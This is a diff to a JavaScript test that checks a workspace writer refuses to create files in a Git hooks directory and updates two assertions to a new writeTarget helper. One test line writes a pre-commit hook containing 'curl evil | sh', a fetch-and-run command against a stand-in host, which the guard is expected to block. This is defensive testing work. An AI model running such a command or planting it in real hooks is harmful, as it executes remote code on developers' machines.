@@ -75,9 +75,9 @@ test('a core.hooksPath inside the workspace is protected like .git', async () =>
   try {
     await refused(w.writeFile('tools/githooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /tools\/githooks, which Git uses/);
     await refused(w.writeFile('./Tools/GitHooks/post-checkout', 'x'), /which Git uses/);
-    assert.equal(await w.writeRefusal('tools/githooks/pre-push') !== undefined, true, 'asked before review');
+    assert.equal((await w.writeTarget('tools/githooks/pre-push')).ok, false, 'asked before review');
     assert.equal((await w.writeFile('tools/build.sh', 'ok\n')).path, 'tools/build.sh');
-    assert.equal(await w.writeRefusal('tools/build.sh'), undefined);
+    assert.deepEqual(await w.writeTarget('./tools/build.sh'), { ok: true, path: 'tools/build.sh', realPath: 'tools/build.sh' });
     assert.ok(!existsSync(join(dir, 'tools', 'githooks')));
   } finally {
     rmSync(dir, { recursive: true, force: true });
